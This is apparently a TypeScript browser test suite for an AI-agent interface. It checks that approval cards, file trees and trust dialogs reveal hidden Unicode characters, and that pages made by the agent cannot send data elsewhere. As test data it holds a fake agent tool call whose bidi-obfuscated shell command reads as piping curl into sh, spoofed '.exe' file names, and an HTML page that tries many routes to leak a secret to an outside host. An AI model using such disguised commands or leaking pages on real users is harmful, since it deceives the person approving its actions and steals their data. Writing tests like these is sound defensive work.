import { mkdir, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Reply } from '@fucina/testkit';
import { afterAll, beforeAll, describe, expect } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { type TestServer, testServer } from './harness.ts';
import { launchBrowser, type Visit, visit, WINDOW_FOLDER, walk } from './window-visit.ts';

// What an agent could do with its own words and pages to the user who watches it.

let server: TestServer;
let browser: Browser | undefined;
const asked: string[] = [];
const outside = createServer((request, response) => {
  asked.push(request.url ?? '');
  response.end();
});

/** Reads as: echo curl | sh "https://example.com" # ok */
const COMMAND = 'echo \u202e"moc.elpmaxe//:sptth" hs | lruc\u202c #\u200b ok\r\u00ad';
const SHOWN = 'echo <U+202E>"moc.elpmaxe//:sptth" hs | lruc<U+202C> #<U+200B> ok␍<U+00AD>';
const SPACES = ' '.repeat(400);

/** Tries every way to another address. */
const leaving = (to: string): string =>
  '<!doctype html><title>Leaving</title><h1>Secret</h1><script>' +
  `const to = ${JSON.stringify(to)} + '/?' + document.querySelector('h1').textContent;` +
  'const link = Object.assign(document.createElement("a"), { href: to });' +
  'const tries = [() => open(to), () => { top.location = to }, () => { parent.location = to }, () => fetch(to),' +
  ' () => { new Image().src = to }, () => document.body.append(Object.assign(document.createElement("iframe"), { src: to })),' +
  ' () => document.body.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + to })),' +
  ' () => { link.target = "_parent"; document.body.append(link); link.click() }, () => { location = to }];' +
  'addEventListener("load", () => { for (const one of tries) try { one() } catch {} });</script>';

const actsTo = (elsewhere: string): Record<string, Reply> => ({
  RUN: { toolCalls: [{ name: 'shell', arguments: { comando: COMMAND, descrizione: 'Draws a\u202egpj.exe' } }] },
  WRITE: { toolCalls: [{ name: 'scrivi', arguments: { percorso: 'bill\u202efdp.exe', contenuto: 'a\u2066b\n' } }] },
  EDIT: {
    toolCalls: [
      {
        name: 'file_edit',
        arguments: { percorso: 'kept.txt', vecchio: 'one', nuovo: `two\u202e${SPACES}end`, tutte: true },
      },
    ],
  },
  LEAVE: { toolCalls: [{ name: 'artifact_create', arguments: { titolo: 'Leaving', html: leaving(elsewhere) } }] },
});

beforeAll(async () => {
  browser = await launchBrowser();
  if (!browser) return;
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  const elsewhere = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  const acts = actsTo(elsewhere);
  server = await testServer({
    windowFolder: WINDOW_FOLDER,
    script: ({ lastRole, lastText }) =>
      (lastRole === 'user' && acts[/^\w+/.exec(lastText)?.[0] ?? '']) || { text: 'Heard.' },
  });
  await writeFile(join(server.project.path, 'kept.txt'), 'one\r\ntwo\r\n');
  await writeFile(join(server.project.path, 'leaving.html'), leaving(elsewhere));
  await writeFile(join(server.project.path, 'bill\u202efdp.sh'), 'true\n');
});
afterAll(async () => {
  await browser?.close();
  await server?.[Symbol.asyncDispose]();
  outside.close();
});

async function opened(consegna: string, view = ''): Promise<Visit> {
  const id = await server.startSession({ consegna, linguaInterfaccia: 'en', permessi: 'On request' });
  return visit({ browser: browser as Browser, server, path: `/sessions/${id}${view}` });
}

describe('an approval', () => {
  walk('shows the hidden characters of a command and of its description', async () => {
    await using v = await opened('RUN it');
    const card = v.page.getByRole('region', { name: 'Run this command?' });
    expect((await card.locator('pre').innerText()).trim()).toBe(SHOWN);
    await card.getByText('Draws a<U+202E>gpj.exe').waitFor();
    await v.page.getByRole('button', { name: SHOWN.slice(0, 40) }).waitFor();
  });

  walk('shows the hidden characters of a file name and of new content', async () => {
    await using v = await opened('WRITE it');
    const card = v.page.getByRole('region', { name: 'Write this file?' });
    await card.getByText('bill<U+202E>fdp.exe').waitFor();
    await card.getByText('a<U+2066>b').waitFor();
  });

  walk('shows every character of an edit within the card, and that it replaces all', async () => {
    await using v = await opened('EDIT it');
    const card = v.page.getByRole('region', { name: 'Edit this file?' });
    // Before the file is loaded, only the edit is shown.
    await card.locator('.diff-line[data-kind="same"]').waitFor();
    expect(await card.locator('.diff-line').allInnerTexts()).toEqual([
      expect.stringMatching(/−\s*one$/),
      expect.stringMatching(/\+\s*two<U\+202E> {400}end$/),
      expect.stringMatching(/two$/),
    ]);
    const isWhole = await card.locator('.diff').evaluate((diff) => diff.scrollWidth <= diff.clientWidth);
    expect(isWhole).toBe(true);
    await card.getByText('Replace all').waitFor();
  });
});

walk('the name of a file shows its hidden characters in the tree, the tabs and the head', async () => {
  await using v = await opened('hello', `/files?file=${encodeURIComponent('bill\u202efdp.sh')}`);
  for (const place of ['.tree-name', '.file-tab', '.file-view .path'])
    await v.page.locator(place, { hasText: 'bill<U+202E>fdp.sh' }).waitFor();
});

walk('the trust dialog shows the hidden characters of what a project would run', async () => {
  const declared = {
    server: [{ id: 'all', comando: 'node', argomenti: ['\u202esj.live', 'a\u200bb'], allowlist: ['read'] }],
  };
  await mkdir(join(server.project.path, '.svc'), { recursive: true });
  await writeFile(join(server.project.path, '.svc/mcp.json'), JSON.stringify(declared));
  await using v = await opened('hello', '/extensions');
  await v.page.getByRole('button', { name: 'Review and trust all' }).click();
  const question = v.page.getByRole('dialog', { name: 'Trust the server “all”?' });
  await question.getByText('node <U+202E>sj.live a<U+200B>b').waitFor();
});

describe('a page', () => {
  walk('of the agent cannot send what it knows to another address', async () => {
    await using v = await opened('LEAVE it');
    await staysIn(v.page, '/api/v1/artifacts/');
  });

  walk('of the folder cannot send what it knows to another address', async () => {
    await using v = await opened('hello', '/files?file=leaving.html');
    await staysIn(v.page, '/api/v1/pagine/');
  });
});

/** The framed page is loaded, and its last try, to navigate itself, is blocked. */
async function staysIn(page: Page, path: string): Promise<void> {
  const loaded = page.waitForResponse(
    (answer) => answer.url().includes(path) && answer.request().isNavigationRequest(),
  );
  const blocked = page.waitForEvent('console', (line) =>
    /^Framing .* violates .* "frame-src 'self'"/.test(line.text()),
  );
  await page.reload();
  await Promise.all([loaded, blocked]);
  expect(asked).toEqual([]);
}
